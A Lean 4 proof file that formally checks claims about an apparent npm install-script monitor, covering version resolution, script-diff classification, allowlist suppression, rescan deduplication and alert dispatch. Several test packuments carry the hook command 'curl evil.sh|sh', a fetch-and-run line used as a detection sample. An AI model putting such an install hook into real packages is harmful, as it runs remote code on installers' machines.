/-- `crashResult fs ops g`: the file system can be left in state `g` when
the process runs `ops` from `fs` and may crash at any point (including not
at all). -/
def crashResult (fs : FsState) : List FsOp → FsState → Prop
  | [], g => g = fs
  | op :: rest, g => g = fs ∨ midOpState fs op g ∨ crashResult (applyOp fs op) rest g

/-! ## Helper lemmas about the descending version sort -/

theorem sortVersionsDesc_sorted (keys : List String) :
    List.Sorted verGe (sortVersionsDesc keys) :=
  List.sorted_insertionSort verGe keys

theorem sortVersionsDesc_perm (keys : List String) :
    (sortVersionsDesc keys).Perm keys :=
  List.perm_insertionSort verGe keys

theorem sortVersionsDesc_head_ge (keys : List String) {m : String} {rest : List String}
    (h : sortVersionsDesc keys = m :: rest) : ∀ k ∈ keys, verGe m k := by
  intro k hk
  have hmem : k ∈ m :: rest := h ▸ (sortVersionsDesc_perm keys).mem_iff.2 hk
  rcases List.mem_cons.1 hmem with hkm | hkrest
  · subst hkm
    exact verGe_refl k
  · have hs := sortVersionsDesc_sorted keys
    rw [h] at hs
    exact (List.pairwise_cons.1 hs).1 k hkrest

theorem sortVersionsDesc_ne_nil {keys : List String} (h : keys ≠ []) :
    ∃ m rest, sortVersionsDesc keys = m :: rest := by
  rcases hs : sortVersionsDesc keys with _ | ⟨m, rest⟩
  · exfalso
    apply h
    have hp := sortVersionsDesc_perm keys
    rw [hs] at hp
    exact hp.nil_eq.symm
  · exact ⟨m, rest, rfl⟩

/-! ## Claims about the version resolvers (C2, C3) -/

/-- Concrete packument for claim C2: the `dist-tags.latest` pointer names an
existing, parseable, but not semver-highest version. -/
def c2Pack : Packument :=
  ⟨"pkg", some [("1.0.0", ⟨none⟩), ("2.0.0", ⟨none⟩)], some ⟨some "1.0.0"⟩, none⟩

/-- Claim C2, counterexample: on a packument whose `dist-tags.latest` is a
truthy, parseable tag naming an existing version, the src/index.ts resolver
returns the tag — here `1.0.0`, although `2.0.0` is a valid key that is
semver-greater — so `latest` is not the semver-highest parseable key and the
tag does override the true highest version. -/
theorem index_resolver_overrides_highest :
    indexPickLatestAndPreviousVersions c2Pack = .ok ⟨some "1.0.0", none⟩ ∧
    "2.0.0" ∈ ((c2Pack.versions.getD []).map Prod.fst).filter isLikelyVersionKey ∧
    scmpStr "2.0.0" "1.0.0" = .gt ∧
    ¬ verGe "1.0.0" "2.0.0" := by
  refine ⟨rfl, by decide, by decide, by decide⟩

/-- Claim C2 (amended): the worker-side resolver
(`pickLatestAndPreviousVersions` of src/worker.ts) ignores `dist-tags`
entirely and returns as `latest` a valid key of the versions map that is
semver-greater-or-equal to every valid key, whenever any valid key exists.
The src/index.ts resolver variant instead anchors `latest` on
`dist-tags.latest`: when the tag is a non-empty string naming an existing
key and parses as semver, the tag itself is returned as `latest` without
being compared against the other keys; when the tag names an existing but
unparseable key while some other valid key exists, the resolver throws
`TypeError: Invalid Version` out of `semver.compare` instead of returning;
and an empty-string tag is falsy, yielding `latest = previous = null`. -/
theorem resolver_latest_spec :
    (∀ (doc : Packument) (versions : List (String × VersionDoc)),
      doc.versions = some versions →
      (versions.map Prod.fst).filter isLikelyVersionKey ≠ [] →
      ∃ m, (pickLatestAndPreviousVersions doc).latest = some m ∧
        m ∈ (versions.map Prod.fst).filter isLikelyVersionKey ∧
        ∀ k ∈ (versions.map Prod.fst).filter isLikelyVersionKey, verGe m k) ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)) (tags : DistTags) (t : String),
      doc.versions = some versions → doc.distTags = some tags → tags.latest = some t →
      t ≠ "" → (versions.lookup t).isSome = true → isLikelyVersionKey t = true →
      ∃ p, indexPickLatestAndPreviousVersions doc = .ok ⟨some t, p⟩) ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)) (tags : DistTags) (t : String),
      doc.versions = some versions → doc.distTags = some tags → tags.latest = some t →
      t ≠ "" → (versions.lookup t).isSome = true → isLikelyVersionKey t = false →
      (versions.map Prod.fst).any (fun v => isLikelyVersionKey v && v != t) = true →
      indexPickLatestAndPreviousVersions doc = .error "TypeError: Invalid Version") ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)) (tags : DistTags),
      doc.versions = some versions → doc.distTags = some tags → tags.latest = some "" →
      indexPickLatestAndPreviousVersions doc = .ok ⟨none, none⟩) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro doc versions h hne
    obtain ⟨m, rest, hsort⟩ := sortVersionsDesc_ne_nil hne
    refine ⟨m, ?_, ?_, sortVersionsDesc_head_ge _ hsort⟩
    · simp [pickLatestAndPreviousVersions, h, hsort]
    · have : m ∈ sortVersionsDesc ((versions.map Prod.fst).filter isLikelyVersionKey) := by
        rw [hsort]
        exact List.mem_cons_self m rest
      exact (sortVersionsDesc_perm _).mem_iff.1 this
  · intro doc versions tags t hv hdt hlt htne hsome hlik
    have hnone : (versions.lookup t).isNone = false := by
      rcases hx : versions.lookup t with _ | v
      · rw [hx] at hsome
        simp at hsome
      · rfl
    refine ⟨(sortVersionsDesc ((versions.map Prod.fst).filter
      (fun v => isLikelyVersionKey v && v != t && scmpStr v t == .lt)))[0]?, ?_⟩
    simp [indexPickLatestAndPreviousVersions, hv, hdt, hlt, htne, hnone, hlik]
  · intro doc versions tags t hv hdt hlt htne hsome hlik hany
    have hnone : (versions.lookup t).isNone = false := by
      rcases hx : versions.lookup t with _ | v
      · rw [hx] at hsome
        simp at hsome
      · rfl
    simp [indexPickLatestAndPreviousVersions, hv, hdt, hlt, htne, hnone, hlik, hany]
  · intro doc versions tags hv hdt hlt
    simp [indexPickLatestAndPreviousVersions, hv, hdt, hlt]

/-- Concrete packument for the C2 witness: `dist-tags.latest` names the
existing, parseable version `2.0.0`. -/
def c2wPack : Packument :=
  ⟨"pkg", some [("1.0.0", ⟨none⟩), ("2.0.0", ⟨none⟩)], some ⟨some "2.0.0"⟩, none⟩

/-- Concrete packument for the C2 witness: `dist-tags.latest` names the
existing but unparseable key `banana` while the valid key `1.0.0` exists,
the configuration under which src/index.ts throws from `semver.compare`. -/
def c2wBad : Packument :=
  ⟨"pkg", some [("1.0.0", ⟨none⟩), ("banana", ⟨none⟩)], some ⟨some "banana"⟩, none⟩

/-- Concrete packument for the C2 witness: an empty-string tag, falsy in the
source even though `""` is an existing key of the versions map. -/
def c2wEmpty : Packument :=
  ⟨"pkg", some [("", ⟨none⟩)], some ⟨some ""⟩, none⟩

theorem resolver_latest_spec_witness :
    (∃ m, (pickLatestAndPreviousVersions c2wPack).latest = some m ∧
      m ∈ (([("1.0.0", (⟨none⟩ : VersionDoc)), ("2.0.0", ⟨none⟩)].map Prod.fst).filter
        isLikelyVersionKey) ∧
      ∀ k ∈ (([("1.0.0", (⟨none⟩ : VersionDoc)), ("2.0.0", ⟨none⟩)].map Prod.fst).filter
        isLikelyVersionKey), verGe m k) ∧
    (∃ p, indexPickLatestAndPreviousVersions c2wPack = .ok ⟨some "2.0.0", p⟩) ∧
    indexPickLatestAndPreviousVersions c2wBad = .error "TypeError: Invalid Version" ∧
    indexPickLatestAndPreviousVersions c2wEmpty = .ok ⟨none, none⟩ :=
  ⟨resolver_latest_spec.1 c2wPack [("1.0.0", ⟨none⟩), ("2.0.0", ⟨none⟩)] rfl (by decide),
   resolver_latest_spec.2.1 c2wPack [("1.0.0", ⟨none⟩), ("2.0.0", ⟨none⟩)] ⟨some "2.0.0"⟩
     "2.0.0" rfl rfl rfl (by decide) (by decide) (by decide),
   resolver_latest_spec.2.2.1 c2wBad [("1.0.0", ⟨none⟩), ("banana", ⟨none⟩)] ⟨some "banana"⟩
     "banana" rfl rfl rfl (by decide) (by decide) (by decide) (by decide),
   resolver_latest_spec.2.2.2 c2wEmpty [("", ⟨none⟩)] ⟨some ""⟩ rfl rfl rfl⟩

/-- Concrete packument for claim C3: two distinct keys that are semver-equal
(they differ only in build metadata, which the comparator ignores). -/
def c3Pack : Packument :=
  ⟨"pkg", some [("1.2.3+a", ⟨none⟩), ("1.2.3+b", ⟨none⟩)], none, none⟩

/-- Claim C3, counterexample: on a packument whose two valid keys are
semver-equal, the resolver returns `previous = "1.2.3+b"`, which is *not*
strictly less than `latest = "1.2.3+a"` (the comparator deems them equal),
although the claim requires `previous` to be the highest version strictly
less than `latest` — and `null` when, as here, no strictly smaller version
exists — and requires `latest` to compare strictly greater than `previous`
whenever there are at least two valid versions. -/
theorem previous_not_strictly_less :
    pickLatestAndPreviousVersions c3Pack = ⟨some "1.2.3+a", some "1.2.3+b"⟩ ∧
    scmpStr "1.2.3+b" "1.2.3+a" = .eq := by
  refine ⟨by decide, by decide⟩

/-- Claim C3 (amended): `previous` is the second entry of the stable
semver-descending sort of the valid keys.  Hence: no versions map or no
valid key gives `latest = previous = null`; exactly one valid key gives
`previous = null`; and whenever the valid keys are pairwise semver-distinct
and at least two exist, `previous` is semver-strictly-less than `latest` and
semver-greater-or-equal to every other valid key — the claim as written,
which however can fail when two distinct keys are semver-equal. -/
theorem resolver_previous_spec :
    (∀ doc : Packument, doc.versions = none →
      pickLatestAndPreviousVersions doc = ⟨none, none⟩) ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)),
      doc.versions = some versions →
      (versions.map Prod.fst).filter isLikelyVersionKey = [] →
      pickLatestAndPreviousVersions doc = ⟨none, none⟩) ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)) (v : String),
      doc.versions = some versions →
      (versions.map Prod.fst).filter isLikelyVersionKey = [v] →
      (pickLatestAndPreviousVersions doc).previous = none) ∧
    (∀ (doc : Packument) (versions : List (String × VersionDoc)),
      doc.versions = some versions →
      ((versions.map Prod.fst).filter isLikelyVersionKey).Pairwise
        (fun a b => scmpStr a b ≠ .eq) →
      2 ≤ ((versions.map Prod.fst).filter isLikelyVersionKey).length →
      ∃ m p, (pickLatestAndPreviousVersions doc).latest = some m ∧
        (pickLatestAndPreviousVersions doc).previous = some p ∧
        scmpStr p m = .lt ∧
        ∀ k ∈ (versions.map Prod.fst).filter isLikelyVersionKey, k ≠ m → verGe p k) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · intro doc h
    simp [pickLatestAndPreviousVersions, h]
  · intro doc versions h hnil
    simp [pickLatestAndPreviousVersions, h, hnil, sortVersionsDesc, List.insertionSort]
  · intro doc versions v h hone
    simp [pickLatestAndPreviousVersions, h, hone, sortVersionsDesc, List.insertionSort,
      List.orderedInsert]
  · intro doc versions h hdist hlen
    have hvne : (versions.map Prod.fst).filter isLikelyVersionKey ≠ [] := by
      intro hnil
      rw [hnil] at hlen
      simp at hlen
    obtain ⟨m, rest, hsort⟩ := sortVersionsDesc_ne_nil hvne
    have hlensort : (sortVersionsDesc ((versions.map Prod.fst).filter isLikelyVersionKey)).length =
        ((versions.map Prod.fst).filter isLikelyVersionKey).length :=
      (sortVersionsDesc_perm _).length_eq
    rcases rest with _ | ⟨p, rest2⟩
    · exfalso
      rw [hsort] at hlensort
      simp at hlensort
      omega
    have hsorted := sortVersionsDesc_sorted ((versions.map Prod.fst).filter isLikelyVersionKey)
    rw [hsort] at hsorted
    have hdistsort : (m :: p :: rest2).Pairwise (fun a b => scmpStr a b ≠ .eq) := by
      have hsymm : ∀ {x y : String}, scmpStr x y ≠ .eq → scmpStr y x ≠ .eq := by
        intro x y hxy hyx
        exact hxy (OrientedCmp.cmp_eq_eq_symm.1 hyx)
      have hperm := sortVersionsDesc_perm ((versions.map Prod.fst).filter isLikelyVersionKey)
      rw [hsort] at hperm
      exact (hperm.pairwise_iff hsymm).2 hdist
    have hge : verGe m p := (List.pairwise_cons.1 hsorted).1 p (List.mem_cons_self p rest2)
    have hne : scmpStr m p ≠ .eq := (List.pairwise_cons.1 hdistsort).1 p (List.mem_cons_self p rest2)
    have hlt : scmpStr p m = .lt := by
      rcases e : scmpStr m p with _ | _ | _
      · exact absurd e hge
      · exact absurd e hne
      · exact OrientedCmp.cmp_eq_gt.1 e
    refine ⟨m, p, ?_, ?_, hlt, ?_⟩
    · simp [pickLatestAndPreviousVersions, h, hsort]
    · simp [pickLatestAndPreviousVersions, h, hsort]
    · intro k hk hkm
      have hmem : k ∈ m :: p :: rest2 := by
        rw [← hsort]
        exact (sortVersionsDesc_perm _).mem_iff.2 hk
      rcases List.mem_cons.1 hmem with h1 | h1
      · exact absurd h1 hkm
      rcases List.mem_cons.1 h1 with h2 | h2
      · subst h2
        exact verGe_refl k
      · exact (List.pairwise_cons.1 (hsorted.of_cons)).1 k h2

/-- Concrete packuments for the C3 witness. -/
def c3wPack : Packument :=
  ⟨"pkg", some [("1.0.0", ⟨none⟩), ("1.1.0", ⟨none⟩), ("0.9.0", ⟨none⟩)], none, none⟩

/-- Concrete one-version packument for the C3 witness. -/
def c3wOne : Packument :=
  ⟨"pkg", some [("1.0.0", ⟨none⟩)], none, none⟩

/-! ## Claims about the script diff classification (C4, C5) and the
allowlist predicate (C10) -/

/-- The raw `scripts` entry of a version document; the specification's
"absent" is `none` here, its "blank" a whitespace-only command. -/
def scriptEntry (d : Option VersionDoc) (scriptName : String) : Option String :=
  match d with
  | none => none
  | some doc =>
    match doc.scripts with
    | none => none
    | some scripts => scripts.lookup scriptName

/-- Blank-or-absent, the specification's "no script": the entry is missing
or trims to the empty string. -/
def isBlankEntry : Option String → Bool
  | none => true
  | some c => (trimChars c.data).isEmpty

theorem hasScript_eq_not_blank (d : Option VersionDoc) (s : String) :
    hasScript d s = !isBlankEntry (scriptEntry d s) := by
  rcases d with _ | doc
  · rfl
  rcases hsc : doc.scripts with _ | scripts
  · simp [hasScript, scriptEntry, isBlankEntry, hsc]
  rcases hl : scripts.lookup s with _ | val
  · simp [hasScript, scriptEntry, isBlankEntry, hsc, hl]
  · simp [hasScript, scriptEntry, isBlankEntry, hsc, hl]

theorem getScript_eq_entry (d : Option VersionDoc) (s : String) :
    getScript d s = (scriptEntry d s).getD "" := by
  rcases d with _ | doc
  · rfl
  rcases hsc : doc.scripts with _ | scripts
  · simp [getScript, scriptEntry, hsc]
  · simp [getScript, scriptEntry, hsc]

/-- The classifier's per-branch form: the in-source `let` bindings for the
previous document expanded by case analysis. -/
theorem classifyScript_eq (latestDoc prevDoc : Option VersionDoc) (s : String) :
    classifyScript latestDoc prevDoc s =
      (if hasScript latestDoc s && !hasScript prevDoc s then
        some ⟨s, .added, getScript latestDoc s, none⟩
      else if hasScript latestDoc s && hasScript prevDoc s &&
          getScript latestDoc s != getScript prevDoc s then
        some ⟨s, .changed, getScript latestDoc s, some (getScript prevDoc s)⟩
      else none) := by
  rcases prevDoc with _ | d <;> rfl

/-- Claim C4: per monitored script name, the worker's classifier emits
`added` exactly when the latest command is non-blank and the previous one is
blank or absent, `changed` exactly when both are non-blank and differ, and
nothing when the latest command is blank or equals the previous one — this
classifier consults no allowlist at all. -/
theorem classifyScript_spec (latestDoc prevDoc : Option VersionDoc) (s : String) :
    (classifyScript latestDoc prevDoc s = some ⟨s, .added, getScript latestDoc s, none⟩ ↔
      isBlankEntry (scriptEntry latestDoc s) = false ∧
      isBlankEntry (scriptEntry prevDoc s) = true) ∧
    (classifyScript latestDoc prevDoc s =
        some ⟨s, .changed, getScript latestDoc s, some (getScript prevDoc s)⟩ ↔
      isBlankEntry (scriptEntry latestDoc s) = false ∧
      isBlankEntry (scriptEntry prevDoc s) = false ∧
      getScript latestDoc s ≠ getScript prevDoc s) ∧
    ((isBlankEntry (scriptEntry latestDoc s) = true ∨
        scriptEntry latestDoc s = scriptEntry prevDoc s) →
      classifyScript latestDoc prevDoc s = none) := by
  rw [classifyScript_eq, hasScript_eq_not_blank, hasScript_eq_not_blank]
  refine ⟨?_, ?_, ?_⟩
  · by_cases hbl : isBlankEntry (scriptEntry latestDoc s) <;>
      by_cases hbp : isBlankEntry (scriptEntry prevDoc s) <;>
      by_cases hcmd : getScript latestDoc s = getScript prevDoc s <;>
      simp [hbl, hbp, hcmd]
  · by_cases hbl : isBlankEntry (scriptEntry latestDoc s) <;>
      by_cases hbp : isBlankEntry (scriptEntry prevDoc s) <;>
      by_cases hcmd : getScript latestDoc s = getScript prevDoc s <;>
      simp [hbl, hbp, hcmd]
  · intro hcase
    rcases hcase with hbl | heq
    · simp [hbl]
    · have hcmd : getScript latestDoc s = getScript prevDoc s := by
        rw [getScript_eq_entry, getScript_eq_entry, heq]
      by_cases hbl : isBlankEntry (scriptEntry latestDoc s) <;>
        simp [hbl, heq, hcmd]

theorem classifyScript_spec_witness :
    classifyScript (some ⟨some [("postinstall", "x")]⟩) (some ⟨some [("postinstall", "x")]⟩)
      "postinstall" = none :=
  (classifyScript_spec (some ⟨some [("postinstall", "x")]⟩)
    (some ⟨some [("postinstall", "x")]⟩) "postinstall").2.2 (Or.inr rfl)

/-- The allowlist classifier's per-branch form. -/
theorem classifyScriptAllowlist_eq (latestDoc prevDoc : Option VersionDoc) (s : String) :
    classifyScriptAllowlist latestDoc prevDoc s =
      (if hasScript latestDoc s && isScriptAllowedStr (getScript latestDoc s) then none
      else if hasScript latestDoc s && !hasScript prevDoc s then
        some ⟨s, .added, getScript latestDoc s, none⟩
      else if hasScript latestDoc s && hasScript prevDoc s &&
          getScript latestDoc s != getScript prevDoc s then
        (if isScriptAllowedStr (getScript prevDoc s) then
          some ⟨s, .added, getScript latestDoc s, none⟩
        else
          some ⟨s, .changed, getScript latestDoc s, some (getScript prevDoc s)⟩)
      else none) := by
  rcases prevDoc with _ | d <;> rfl

/-- Claim C5: when the latest command matches the allowlist no alert of any
kind is produced for that script name (in particular no `added` alert, even
when the script is absent from the previous version); a would-be `changed`
whose previous command matches the allowlist is re-classified as `added`
with the previous command collapsed to `null`; and every `added` alert the
classifier produces carries `prevCmd = null`. -/
theorem allowlist_suppression_spec (latestDoc prevDoc : Option VersionDoc) (s : String) :
    (isScriptAllowedStr (getScript latestDoc s) = true →
      classifyScriptAllowlist latestDoc prevDoc s = none) ∧
    (hasScript latestDoc s = true → hasScript prevDoc s = true →
      getScript latestDoc s ≠ getScript prevDoc s →
      isScriptAllowedStr (getScript latestDoc s) = false →
      isScriptAllowedStr (getScript prevDoc s) = true →
      classifyScriptAllowlist latestDoc prevDoc s =
        some ⟨s, .added, getScript latestDoc s, none⟩) ∧
    (∀ a : Alert, classifyScriptAllowlist latestDoc prevDoc s = some a →
      a.action = .added → a.prevCmd = none) := by
  rw [classifyScriptAllowlist_eq]
  refine ⟨?_, ?_, ?_⟩
  · intro hallow
    by_cases hl : hasScript latestDoc s
    · simp [hl, hallow]
    · simp [hl]
  · intro hl hp hcmd hnotallow hprevallow
    simp [hl, hp, hcmd, hnotallow, hprevallow]
  · intro a ha haction
    by_cases h1 : (hasScript latestDoc s && isScriptAllowedStr (getScript latestDoc s)) = true
    · rw [if_pos h1] at ha
      exact absurd ha (by simp)
    rw [if_neg h1] at ha
    by_cases h2 : (hasScript latestDoc s && !hasScript prevDoc s) = true
    · rw [if_pos h2] at ha
      have hs := Option.some.inj ha
      rw [← hs]
    rw [if_neg h2] at ha
    by_cases h3 : (hasScript latestDoc s && hasScript prevDoc s &&
        (getScript latestDoc s != getScript prevDoc s)) = true
    · rw [if_pos h3] at ha
      by_cases h4 : isScriptAllowedStr (getScript prevDoc s) = true
      · rw [if_pos h4] at ha
        have hs := Option.some.inj ha
        rw [← hs]
      · rw [if_neg h4] at ha
        have hs := Option.some.inj ha
        rw [← hs] at haction
        simp at haction
    · rw [if_neg h3] at ha
      exact absurd ha (by simp)

theorem allowlist_suppression_spec_witness :
    classifyScriptAllowlist (some ⟨some [("preinstall", "npx only-allow pnpm")]⟩) none
      "preinstall" = none ∧
    classifyScriptAllowlist (some ⟨some [("preinstall", "curl evil.sh|sh")]⟩)
      (some ⟨some [("preinstall", "npx only-allow pnpm")]⟩) "preinstall" =
      some ⟨"preinstall", .added, "curl evil.sh|sh", none⟩ :=
  ⟨(allowlist_suppression_spec (some ⟨some [("preinstall", "npx only-allow pnpm")]⟩) none
      "preinstall").1 (by decide),
   (allowlist_suppression_spec (some ⟨some [("preinstall", "curl evil.sh|sh")]⟩)
      (some ⟨some [("preinstall", "npx only-allow pnpm")]⟩) "preinstall").2.1
     (by decide) (by decide) (by decide) (by decide) (by decide)⟩

/-- Claim C10: `isScriptAllowed` rejects the empty string and every
non-string value (the truthy-string guard), accepts every non-empty
whitespace-only string (the explicit trimmed-empty case), and on every other
string answers whether the trimmed command matches some configured allowlist
pattern. -/
theorem isScriptAllowed_spec :
    isScriptAllowed (.str "") = false ∧
    isScriptAllowed .nonString = false ∧
    (∀ s : String, s ≠ "" → trimChars s.data = [] → isScriptAllowed (.str s) = true) ∧
    (∀ s : String, trimChars s.data ≠ [] →
      (isScriptAllowed (.str s) = true ↔
        ∃ pat ∈ scriptAllowlist, matchesAllowlistEntry pat (trimChars s.data) = true)) := by
  refine ⟨rfl, rfl, ?_, ?_⟩
  · intro s hne htrim
    simp [isScriptAllowed, hne, htrim]
  · intro s htrim
    have hne : s ≠ "" := by
      intro h
      subst h
      exact htrim rfl
    simp [isScriptAllowed, hne, htrim, List.any_eq_true]

theorem isScriptAllowed_spec_witness :
    isScriptAllowed (.str " ") = true ∧
    isScriptAllowed (.str "NPX Only-Allow PNPM") = true :=
  ⟨isScriptAllowed_spec.2.2.1 " " (by decide) (by decide),
   (isScriptAllowed_spec.2.2.2 "NPX Only-Allow PNPM" (by decide)).2
     ⟨"npx only-allow pnpm", by decide, by decide⟩⟩

theorem resolver_previous_spec_witness :
    (pickLatestAndPreviousVersions c3wOne).previous = none ∧
    (∃ m p, (pickLatestAndPreviousVersions c3wPack).latest = some m ∧
      (pickLatestAndPreviousVersions c3wPack).previous = some p ∧
      scmpStr p m = .lt ∧
      ∀ k ∈ (([("1.0.0", (⟨none⟩ : VersionDoc)), ("1.1.0", ⟨none⟩),
        ("0.9.0", ⟨none⟩)].map Prod.fst).filter isLikelyVersionKey), k ≠ m → verGe p k) :=
  ⟨resolver_previous_spec.2.2.1 c3wOne [("1.0.0", ⟨none⟩)] "1.0.0" rfl (by decide),
   resolver_previous_spec.2.2.2 c3wPack
     [("1.0.0", ⟨none⟩), ("1.1.0", ⟨none⟩), ("0.9.0", ⟨none⟩)] rfl (by decide) (by decide)⟩

/-! ## Claim C1: re-scanning and the findings store -/

/-- A packument whose latest version introduces a postinstall script. -/
def c1Pack : Packument :=
  ⟨"evil-pkg", some [("1.0.0", ⟨some []⟩),
    ("1.1.0", ⟨some [("postinstall", "curl evil.sh|sh")]⟩)], none, none⟩

/-- A worker configuration with the Telegram sink configured. -/
def c1Config : SinkConfig :=
  ⟨some "bot-token", some "chat-id", none, none⟩

/-- A network in which every sink call succeeds. -/
def c1Net : NetBehavior :=
  ⟨true, true, fun _ => true⟩

/-- First scan of `c1Pack`, starting from an empty findings store. -/
def c1Run1 : ProcessResult :=
  processPackage c1Config c1Net "evil-pkg" c1Pack [] "2026-01-01T00:00:00.000Z"

/-- Second scan of the unchanged `c1Pack`, starting from the findings store
the first scan persisted. -/
def c1Run2 : ProcessResult :=
  processPackage c1Config c1Net "evil-pkg" c1Pack c1Run1.findings "2026-01-02T00:00:00.000Z"

/-- Claim C1, counterexample: running `processPackage` a second time on a
package whose highest version and scripts are unchanged — with the first
run's findings already in the store — again produces the alert and again
delivers to the configured sink, instead of the claimed zero alerts and zero
deliveries: the persisted findings are never consulted before dispatch. -/
theorem rescan_alerts_again :
    c1Run2.alerts = [⟨"postinstall", .added, "curl evil.sh|sh", none⟩] ∧
    c1Run2.events = [.telegramCall true] := by
  refine ⟨by decide, by decide⟩

/-- The alert batch `processPackage` computes, which depends only on the
packument. -/
def packageAlerts (pack : Packument) : List Alert :=
  match (pickLatestAndPreviousVersions pack).latest with
  | none => []
  | some latest =>
    let versions := pack.versions.getD []
    computeAlerts (versions.lookup latest)
      (match (pickLatestAndPreviousVersions pack).previous with
       | some p => versions.lookup p
       | none => none)

theorem processPackage_alerts (cfg : SinkConfig) (net : NetBehavior) (pn : String)
    (pack : Packument) (store : List Finding) (now : String) :
    (processPackage cfg net pn pack store now).alerts = packageAlerts pack := by
  rcases h : (pickLatestAndPreviousVersions pack).latest with _ | latest
  · simp [processPackage, packageAlerts, h]
  · simp only [processPackage, packageAlerts, h]
    split <;> rfl

theorem processPackage_events (cfg : SinkConfig) (net : NetBehavior) (pn : String)
    (pack : Packument) (s1 s2 : List Finding) (n1 n2 : String) :
    (processPackage cfg net pn pack s1 n1).events =
      (processPackage cfg net pn pack s2 n2).events := by
  rcases h : (pickLatestAndPreviousVersions pack).latest with _ | latest
  · simp [processPackage, h]
  · simp only [processPackage, h]
    split <;> rfl

theorem foldl_cons_length (f : α → β) :
    ∀ (l : List α) (store : List β),
      (l.foldl (fun st a => f a :: st) store).length = store.length + l.length := by
  intro l
  induction l with
  | nil =>
    intro store
    simp
  | cons x xs ih =>
    intro store
    rw [List.foldl_cons, ih]
    simp
    omega

/-- Claim C1 (amended): `processPackage` consults no dedup state: the alerts
it computes and the sink calls it dispatches are independent of the findings
store passed in, every run appends one finding per alert on top of the
store, and re-running it on an unchanged packument therefore reproduces the
identical alerts and dispatches again — shown concretely on `c1Pack`, whose
second run repeats the non-empty alert batch and the sink delivery. -/
theorem processPackage_no_dedup :
    (∀ (cfg : SinkConfig) (net : NetBehavior) (pn : String) (pack : Packument)
      (s1 s2 : List Finding) (n1 n2 : String),
      (processPackage cfg net pn pack s1 n1).alerts =
        (processPackage cfg net pn pack s2 n2).alerts ∧
      (processPackage cfg net pn pack s1 n1).events =
        (processPackage cfg net pn pack s2 n2).events) ∧
    (∀ (cfg : SinkConfig) (net : NetBehavior) (pn : String) (pack : Packument)
      (store : List Finding) (now : String),
      (processPackage cfg net pn pack store now).findings.length =
        store.length + (processPackage cfg net pn pack store now).alerts.length) ∧
    (c1Run1.alerts ≠ [] ∧ c1Run2.alerts = c1Run1.alerts ∧
      c1Run2.events = c1Run1.events ∧ c1Run2.events ≠ []) := by
  refine ⟨?_, ?_, by decide, by decide, by decide, by decide⟩
  · intro cfg net pn pack s1 s2 n1 n2
    exact ⟨(processPackage_alerts cfg net pn pack s1 n1).trans
        (processPackage_alerts cfg net pn pack s2 n2).symm,
      processPackage_events cfg net pn pack s1 s2 n1 n2⟩
  · intro cfg net pn pack store now
    rcases h : (pickLatestAndPreviousVersions pack).latest with _ | latest
    · simp [processPackage, h]
    · simp only [processPackage, h]
      split
      · next halerts =>
        have : _ = ([] : List Alert) := List.isEmpty_iff.1 halerts
        simp [this]
      · exact foldl_cons_length _ _ store

/-! ## Claim C6: what the dispatcher returns -/

/-- A packument with a GitHub repository URL and two introduced scripts. -/
def c6Pack : Packument :=
  ⟨"evil-pkg", some [("1.0.0", ⟨some []⟩),
    ("1.1.0", ⟨some [("preinstall", "curl evil.sh|sh"), ("postinstall", "node x.js")]⟩)],
    none, some ⟨"https://github.com/owner/repo.git"⟩⟩

/-- The alert batch the worker builds for `c6Pack`. -/
def c6Alerts : List Alert :=
  [⟨"preinstall", .added, "curl evil.sh|sh", none⟩,
   ⟨"postinstall", .added, "node x.js", none⟩]

/-- A configuration with only the GitHub sink configured. -/
def c6Config : SinkConfig :=
  ⟨none, none, none, some "gh-token"⟩

/-- Dispatch of the batch when every GitHub issue creation succeeds. -/
def c6AllOk : DispatchOutcome :=
  sendCombinedScriptAlertNotifications c6Config "evil-pkg" "1.1.0" (some "1.0.0")
    c6Alerts c6Pack ⟨true, true, fun _ => true⟩

/-- Dispatch of the same batch when every GitHub issue creation fails. -/
def c6AllFail : DispatchOutcome :=
  sendCombinedScriptAlertNotifications c6Config "evil-pkg" "1.1.0" (some "1.0.0")
    c6Alerts c6Pack ⟨false, false, fun _ => false⟩

/-- Claim C6, evaluated at the failing input: the dispatcher's return value
is identical whether both GitHub issues were delivered or none was, while
the actually-delivered subsets differ (both alerts versus none) — so the
returned value cannot be the delivered subset, and the caller has nothing
from which to mark findings delivered. -/
theorem dispatcher_returns_no_delivery_info :
    c6AllOk.returned = c6AllFail.returned ∧
    githubDelivered c6AllOk.events ≠ githubDelivered c6AllFail.events ∧
    githubDelivered c6AllOk.events ≠ [] := by
  refine ⟨rfl, by decide, by decide⟩

/-! ## Claim C7: failure isolation in the dispatcher -/

/-- Which sink an event belongs to. -/
def eventSink : SinkEvent → String
  | .telegramCall _ => "Telegram"
  | .discordCall _ => "Discord"
  | .githubCall _ _ => "GitHub"
  | .warn sink => sink

/-- The number of GitHub issue requests in a trace. -/
def countGithubCalls (events : List SinkEvent) : Nat :=
  (events.filterMap fun e =>
    match e with
    | .githubCall p ok => some (p, ok)
    | _ => none).length

theorem attemptKinds_append (a b : List SinkEvent) :
    attemptKinds (a ++ b) = attemptKinds a ++ attemptKinds b := by
  unfold attemptKinds
  exact List.filterMap_append a b _

theorem attemptKinds_catchWarn_telegram (ok : Bool) :
    attemptKinds (catchWarn "Telegram" (sendTelegramNotification ok)) = [.telegram] := by
  cases ok <;> rfl

theorem attemptKinds_catchWarn_discord (ok : Bool) :
    attemptKinds (catchWarn "Discord" (sendDiscordNotification ok)) = [.discord] := by
  cases ok <;> rfl

theorem attemptKinds_catchWarn_github (url t : String) (pc : Option String) (ok : Bool) :
    attemptKinds (catchWarn "GitHub" (createGitHubIssue url t pc ok)) =
      (match urlPathSegments url with
       | some (o :: r :: _) => [.github o r t pc.isSome]
       | _ => []) := by
  unfold createGitHubIssue catchWarn
  rcases urlPathSegments url with _ | parts
  · rfl
  rcases parts with _ | ⟨o, parts⟩
  · rfl
  rcases parts with _ | ⟨r, rest⟩
  · rfl
  cases ok <;> rfl

theorem attemptKinds_flatMap (f : α → List SinkEvent) (l : List α) :
    attemptKinds (l.flatMap f) = l.flatMap (fun x => attemptKinds (f x)) := by
  induction l with
  | nil => rfl
  | cons x xs ih =>
    rw [List.flatMap_cons, List.flatMap_cons, attemptKinds_append, ih]

